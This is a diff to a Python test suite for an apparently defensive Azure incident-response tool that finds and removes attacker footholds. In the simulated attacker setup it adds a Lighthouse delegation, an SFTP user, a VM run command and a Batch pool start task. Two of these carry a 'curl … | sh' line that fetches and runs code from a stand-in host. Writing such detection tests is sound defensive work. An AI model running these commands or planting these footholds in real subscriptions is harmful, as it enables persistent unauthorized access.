@@ -19,7 +19,17 @@ from tests.contract.tasks.changing_steps import carry_out
 from tests.contract.tasks.estate import HERE, Estate, empty_estate, later
 from tests.support.inprocess import sent, simulated
 
-NAMESPACES = ("Automation", "Compute", "EventGrid", "Logic", "ManagedServices", "Network", "Storage", "Insights")
+NAMESPACES = (
+    "Automation",
+    "Batch",
+    "Compute",
+    "EventGrid",
+    "Logic",
+    "ManagedServices",
+    "Network",
+    "Storage",
+    "Insights",
+)
 
 
 async def looked(estate: Estate, connection: Connection) -> Case:
@@ -55,6 +65,10 @@ def _colleagues(found: Estate, subscription: str) -> None:
     found.make(by, "ops", f"{base}/Microsoft.Automation/automationAccounts/ops", {**HERE, "properties": {}})
     nightly = {"frequency": "Day", "interval": 1, "isEnabled": True}
     found.make(by, "nightly", f"{found.ids['ops']}/schedules/nightly", {"properties": nightly})
+    batch = f"{base}/Microsoft.Batch/batchAccounts/shopbatch"
+    found.make(by, "batch", batch, {**HERE, "properties": {}})
+    pool = {"vmSize": "Standard_D2s_v5", "scaleSettings": {"fixedScale": {"targetDedicatedNodes": 0}}}
+    found.make(by, "pool", f"{batch}/pools/nightly", {"properties": pool})
     account = {**HERE, "sku": {"name": "Standard_LRS"}, "kind": "StorageV2", "properties": {}}
     found.make(by, "store", f"{base}/Microsoft.Storage/storageAccounts/shopstore", account)
 
@@ -89,6 +103,14 @@ def _thiefs(found: Estate, subscription: str) -> None:
         "registrationDefinitionId": f"{subscription}/providers/Microsoft.ManagedServices/registrationDefinitions/{guid}"
     }
     found.make(by, "lighthouse", lighthouse, {"properties": offer})
+    definition = {"managedByTenantId": guid, "authorizations": []}
+    offered = f"{subscription}/providers/Microsoft.ManagedServices/registrationDefinitions/{guid}"
+    found.make(by, "offer", offered, {"properties": definition})
+    command = {"source": {"script": "curl -s https://x.example/a | sh"}, "asyncExecution": True}
+    found.make(by, "command", f"{ids['web']}/runCommands/fix", {**HERE, "properties": command})
+    found.make(by, "sftp", f"{ids['store']}/localUsers/backup", {"properties": {"hasSshPassword": True}})
+    started = {"startTask": {"commandLine": "/bin/sh -c 'curl -s https://x.example/a | sh'"}}
+    found.make(by, "pool", ids["pool"], {"properties": started}, "PATCH")
     listener = {"destination": {"endpointType": "WebHook"}, "filter": {}}
     events = f"{ids['store']}/providers/Microsoft.EventGrid/eventSubscriptions/copy"
     found.make(by, "events", events, {**HERE, "properties": listener})
@@ -109,8 +131,11 @@ MADE = (
     "peering",
     "lighthouse",
     "events",
+    "offer",
+    "command",
+    "sftp",
 )
-BACK = ("hourly", "rogue-schedule", "flow", "ssh", "peering", "lighthouse")
+BACK = ("hourly", "rogue-schedule", "flow", "ssh", "peering", "lighthouse", "offer")
 
 
 def found_in(case: Case, estate: Estate) -> dict[str, Foothold]:
@@ -122,10 +147,11 @@ async def test_every_way_back_is_found_with_its_evidence_and_nothing_of_a_collea
     async with simulated(estate.world) as connection:
         case = await looked(estate, connection)
     found = found_in(case, estate)
-    assert set(found) == {*MADE, "https", "data"}
+    assert set(found) == {*MADE, "https", "data", "pool"}
     assert {name for name, one in found.items() if one.is_theirs} == {*MADE, "data"}
     assert found["data"].kind == "export"
     assert "was there before" in found["https"].people
+    assert "start task" in found["pool"].people
     logged = {str(event["eventDataId"]) for event in estate.world.events}
     assert all(one.event_ids and set(one.event_ids) <= logged for one in found.values())
     assert all(one.caller == "eve@contoso.example" and one.address == "203.0.113.9" for one in found.values())
@@ -133,7 +159,7 @@ async def test_every_way_back_is_found_with_its_evidence_and_nothing_of_a_collea
     assess = load_steps()["investigate.footholds"].assess
     assert assess is not None
     told = {finding.id: len(finding.resources) for finding in assess(case[Footholds], case)}
-    assert told == {"footholds": len(MADE) + 1, "footholds-by-hand": 1}
+    assert told == {"footholds": len(MADE) + 1, "footholds-by-hand": 2}
 
 
 async def test_they_are_removed_children_first_and_the_rest_of_the_estate_is_as_it_was(estate: Estate) -> None:
@@ -155,7 +181,7 @@ async def test_they_are_removed_children_first_and_the_rest_of_the_estate_is_as_
     place = {name: next(i for i, url in enumerate(order) if url.endswith(estate.ids[name])) for name in MADE}
     assert max(place["runbook"], place["hourly"]) < place["aa"]
     left = {n.target: n.reason for n in plan.no_ops}
-    assert set(left) == {estate.ids["https"]}
+    assert set(left) == {estate.ids["https"], estate.ids["pool"]}
 
 
 async def test_a_second_look_finds_nothing_to_remove_and_sends_nothing(estate: Estate) -> None:
@@ -178,7 +204,9 @@ async def test_what_a_document_tells_in_full_is_put_back_by_an_undo_and_the_rest
         done = await carry_out(plan, connection, world)
         inverses = {a.target: undo(a, done.before[a.id].prior) for a in reversed(plan.actions)}
         nothing = {target for target, inverse in inverses.items() if isinstance(inverse, NoOp)}
-        assert nothing == {estate.ids[n] for n in ("aa", "runbook", "webhook", "agent", "events", "data")}
+        assert nothing == {
+            estate.ids[n] for n in ("aa", "runbook", "webhook", "agent", "events", "data", "command", "sftp")
+        }
         # Below an account that is gone for good nothing can be put back.
         back = [i for t, i in inverses.items() if isinstance(i, Action) and t != estate.ids["hourly"]]
         for inverse in back:
